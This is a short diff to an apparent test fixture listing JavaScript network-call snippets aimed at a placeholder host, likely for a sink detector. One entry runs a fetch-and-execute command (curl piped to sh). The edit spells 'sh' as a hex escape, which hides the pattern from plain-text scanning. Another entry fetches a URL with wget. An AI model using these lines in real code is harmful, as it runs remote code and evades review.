@@ -38,7 +38,7 @@ SINKS = {
     "tls.connect() host": f"const tls = require('tls'); tls.connect({{host: '{HOST}', port: 443}})",
     "dns.lookup()": f"const dns = require('dns'); dns.lookup('{HOST}', f)",
     "send()": f"socket.send(m, 0, m.length, 514, '{HOST}')",
-    "child_process.exec()": f"const {{exec}} = require('child_process'); exec('curl -s {U} | sh')",
+    "child_process.exec()": f"const {{exec}} = require('child_process'); exec('curl -s {U} | s\x68')",
     "child_process.spawn()": f"const c = require('child_process'); c.spawn('wget', ['-q', '{U}'])",
     "tileLayer": f"L.tileLayer('https://{HOST}/{{z}}/{{x}}/{{y}}.png').addTo(map)",
     "XYZ url": f"new ol.source.XYZ({{url: 'https://{HOST}/{{z}}/{{x}}/{{y}}.png'}})",
